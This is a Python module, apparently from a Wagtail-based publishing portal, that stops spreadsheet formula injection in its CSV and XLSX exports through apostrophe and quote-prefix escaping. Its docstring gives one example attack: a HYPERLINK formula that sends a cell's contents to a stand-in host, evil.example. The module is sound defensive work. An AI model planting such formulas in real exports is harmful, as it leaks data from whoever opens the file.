"""Spreadsheet cells that cannot run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula: an indicator named
``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would send the next cell's contents away
when an oversight body opens the export. Document titles are outside the workflow, so an
editor alone could plant one. Every CSV and XLSX the portal writes — open data, the ZIP
manifests, the import-format export, Wagtail's listing exports — passes text through here.

CSV: such a text gets a leading apostrophe, which the spreadsheet shows as a text marker (the
importer strips it again, so exported matrices still import). XLSX: the cell is a string with
Excel's "quote prefix", so it shows the text exactly and never evaluates it.
"""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value):
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_text(value):
    """``value`` as a CSV cell that no spreadsheet evaluates."""
    return "'" + value if looks_like_formula(value) else value


def xlsx_text_cell(sheet, value):
    """A write-only cell holding ``value`` as plain text."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_value(sheet, value):
    """``value`` for a write-only sheet: formula-like text becomes a text cell."""
    return xlsx_text_cell(sheet, value) if looks_like_formula(value) else value


class FormulaSafeExportMixin:
    """For Wagtail's listing views with CSV/XLSX export (``SpreadsheetExportMixin``): Wagtail
    already keeps XLSX cells from being formulas; this does the same for CSV."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return csv_text(value) if export_format == self.FORMAT_CSV else value
